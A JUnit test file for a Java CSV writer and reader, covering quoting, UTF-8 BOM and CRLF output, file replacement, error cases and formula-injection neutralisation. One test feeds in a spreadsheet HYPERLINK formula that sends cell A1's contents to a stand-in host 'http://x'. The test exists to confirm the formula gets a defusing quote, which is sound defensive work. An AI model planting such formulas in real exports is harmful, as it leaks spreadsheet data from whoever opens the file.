package org.kaname.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvWriterTest {
    @TempDir
    Path dir;

    @Test
    void quotesOnlyFieldsThatNeedItAndDoublesTheirQuotes() {
        assertThat(CsvWriter.line(List.of("plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", "", "施策")))
                .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",,施策");
        assertThat(CsvWriter.field(null)).isEmpty();
        assertThat(CsvWriter.field(" spaced ")).isEqualTo(" spaced ");
    }

    @Test
    void aFieldASpreadsheetWouldTakeForAFormulaGetsAQuoteInFront() {
        assertThat(CsvWriter.field("=HYPERLINK(\"http://x\"&A1,\"click me\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click me\"\")\"");
        assertThat(CsvWriter.field("+1+1")).isEqualTo("'+1+1");
        assertThat(CsvWriter.field("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvWriter.field("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvWriter.field("\tx")).isEqualTo("'\tx");
        assertThat(CsvWriter.field("\rx")).isEqualTo("\"'\rx\"");
        assertThat(CsvWriter.field("＝1+1")).isEqualTo("'＝1+1");
        assertThat(CsvWriter.field("-")).isEqualTo("'-");
        assertThat(CsvWriter.field("a=1")).isEqualTo("a=1");
        assertThat(CsvWriter.field(" =1")).isEqualTo(" =1");
        assertThat(CsvReader.parse(CsvWriter.line(List.of("=1+1", "x")))).containsExactly(List.of("'=1+1", "x"));
    }

    @Test
    void aPlainNumberStaysANumber() {
        for (String n : List.of("-0.25", "-3", "0", "42", "-1.5E-4", "2e10", "-22999000")) {
            assertThat(CsvWriter.field(n)).as(n).isEqualTo(n);
        }
        for (String notANumber : List.of("-1-1", "-.5", "-1.", "+3", "-1e", "--1", "-1,5")) {
            assertThat(CsvWriter.neutralised(notANumber)).as(notANumber).isEqualTo("'" + notANumber);
        }
    }

    @Test
    void writesTheLineEndItIsGiven() throws IOException {
        StringWriter out = new StringWriter();
        new CsvWriter(out, "\n").row("a", "b").row(List.of("c"));
        assertThat(out.toString()).isEqualTo("a,b\nc\n");
    }

    @Test
    void aFileIsUtf8WithABomAndCrlfAndReadsBackToTheSameFields() throws IOException {
        Path file = dir.resolve("out.csv");
        List<List<String>> rows = List.of(List.of("id", "title"), List.of("S1", "研修, \"基礎\"\n二行目"));
        CsvWriter.writeFile(file, rows, true);
        byte[] bytes = Files.readAllBytes(file);
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).isEqualTo("\uFEFFid,title\r\nS1,\"研修, \"\"基礎\"\"\n二行目\"\r\n");
        assertThat(CsvReader.parse(text)).isEqualTo(rows);
        assertThat(dir.toFile().list()).containsExactly("out.csv");
    }

    @Test
    void withoutBomTheFileStartsWithTheFirstField() throws IOException {
        Path file = dir.resolve("plain.csv");
        CsvWriter.writeFile(file, List.of(List.of("id")), false);
        assertThat(Files.readString(file)).isEqualTo("id\r\n");
    }

    @Test
    void anExistingFileIsReplacedWhole() throws IOException {
        Path file = dir.resolve("out.csv");
        Files.writeString(file, "old content that is longer than the new one\n".repeat(10));
        CsvWriter.writeFile(file, List.of(List.of("new")), false);
        assertThat(Files.readString(file)).isEqualTo("new\r\n");
    }

    @Test
    void aMissingFolderOrAFolderAsTargetFailsAndLeavesNoFile() throws IOException {
        Path missing = dir.resolve("no/such/folder/out.csv");
        assertThatThrownBy(() -> CsvWriter.writeFile(missing, List.of(List.of("x")), true))
                .isInstanceOf(NoSuchFileException.class);
        Path folder = Files.createDirectory(dir.resolve("taken.csv"));
        assertThatThrownBy(() -> CsvWriter.writeFile(folder, List.of(List.of("x")), true))
                .isInstanceOf(IOException.class);
        assertThat(Files.isDirectory(folder)).isTrue();
        assertThat(dir.toFile().list()).containsExactly("taken.csv");
    }

    @Test
    void theReaderHandlesLfCrlfEmptyFieldsAndAMissingFinalLineEnd() {
        assertThat(CsvReader.parse("a,,c\nd,e")).containsExactly(List.of("a", "", "c"), List.of("d", "e"));
        assertThat(CsvReader.parse("\"x\"\"y\",\r\n")).containsExactly(List.of("x\"y", ""));
        assertThat(CsvReader.parse("")).isEmpty();
        assertThatThrownBy(() -> CsvReader.parse("\"open")).isInstanceOf(IllegalArgumentException.class);
    }
}
